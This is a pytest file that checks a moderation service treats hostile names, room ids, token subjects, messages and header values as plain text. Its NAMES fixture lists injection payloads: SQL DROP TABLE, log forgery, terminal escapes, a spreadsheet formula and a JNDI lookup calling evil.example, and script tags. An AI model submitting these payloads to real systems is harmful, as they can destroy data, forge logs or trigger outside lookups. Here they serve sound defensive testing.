"""Names that are meant for a database, a log file, a spreadsheet or a terminal: kept as they are, and harmless."""

import logging
import unicodedata
from collections.abc import AsyncIterator
from pathlib import Path

import jwt
import pytest

from moderator.client.texts import safe
from moderator.clock import SystemClock
from moderator.domain.events import AccessDenied
from tests.fakes.builders import DAY, joined
from tests.fakes.gateway import ISSUER, TOKEN_KEY, GatewayInProcess, joined_in, participant_path, room_path

NAMES = {
    "SQL": "x'); DROP TABLE entries; --",
    "SQL with quotes": '" OR ""="',
    "a log line": "Maya\n2026-01-01 00:00:00 CRITICAL moderator: all keys are lost",
    "a terminal": "\x1b[2J\x1b]0;owned\x07Maya",
    "a spreadsheet": '=HYPERLINK("http://evil.example";"Maya")',
    "a format": "%s%s%n {0} ${jndi:ldap://evil.example/a}",
    "HTML": "<script>alert(1)</script>",
    "another direction": "\u202eayaM\u2066",
    "an end of text": "Maya\x00",
    "an SSE frame": "Maya\n\nevent: events\ndata: {}",
    "long": "M" * 50_000,
}
named = pytest.mark.parametrize("name", NAMES.values(), ids=NAMES)


@pytest.fixture
async def gateway(tmp_path: Path) -> AsyncIterator[GatewayInProcess]:
    async with GatewayInProcess(tmp_path) as gateway:
        yield gateway


@named
async def test_a_participants_name_is_only_a_name(
    gateway: GatewayInProcess, name: str, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG, "moderator")
    await gateway.tell(joined("c1", DAY, user=name, name=name))
    await gateway.tell(joined("c2", DAY))
    room = (await gateway.http.get(room_path())).json()
    assert room["participants"][0]["name"] == name
    answer = await gateway.order("POST", f"{participant_path('c1')}/disconnect", {"block": True})
    assert answer.status_code == 202
    assert gateway.room.people >= 1
    assert len((await gateway.timeline())["events"]) >= 3
    assert not any("\n" in record.getMessage() or "\x1b" in record.getMessage() for record in caplog.records)


@named
async def test_a_rooms_id_is_only_an_id(gateway: GatewayInProcess, name: str) -> None:
    room = name[:1_000]
    await gateway.tell(joined_in(room, "c1", DAY), joined_in("room-1", "c2", DAY))
    found = await gateway.http.get(room_path(room))
    assert (found.status_code, found.json()["room"]) == (200, room)
    assert (await gateway.http.get(room_path())).status_code == 200
    rooms = (await gateway.http.get("/v1/rooms")).json()["rooms"]
    assert {one["room"] for one in rooms} == {room, "room-1"}


@named
async def test_a_moderators_name_is_only_a_name(
    gateway: GatewayInProcess, name: str, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG, "moderator")
    now = SystemClock().now_ms() // 1000
    claims = {"iss": ISSUER, "aud": ISSUER, "sub": name[:1_000], "jti": "1", "iat": now, "exp": now + 60}
    token = jwt.encode(claims | {"scope": "rooms:read", "rooms": ["*"]}, TOKEN_KEY)
    answer = await gateway.order("PUT", "/v1/enforcement/hold", {}, Authorization=f"Bearer {token}")
    has_controls = any(unicodedata.category(one) == "Cc" for one in name)
    assert answer.status_code == (401 if has_controls else 403)
    (denied,) = await gateway.logged(AccessDenied)
    assert isinstance(denied.data, AccessDenied)
    assert len(denied.data.origin) <= 100
    assert not any("\n" in record.getMessage() or "\x1b" in record.getMessage() for record in caplog.records)


@named
async def test_a_message_is_only_a_text(gateway: GatewayInProcess, name: str) -> None:
    await gateway.tell(joined("c1", DAY))
    answer = await gateway.order("POST", f"{room_path()}/message", {"text": name})
    assert answer.status_code == (422 if len(name) > 1_000 else 202)


@named
def test_a_terminal_is_shown_nothing_that_moves_it(name: str) -> None:
    shown = safe(name)
    assert not any(ord(character) < 32 or ord(character) == 127 for character in shown)
    assert "\u202e" not in shown


@named
async def test_a_header_takes_no_line_break(gateway: GatewayInProcess, name: str) -> None:
    answer = await gateway.http.put(
        "/v1/enforcement/hold", json={}, headers={b"Idempotency-Key": name.encode("utf-8", "replace")[:190]}
    )
    assert answer.status_code == 200
    assert name[:20] not in str(answer.headers)
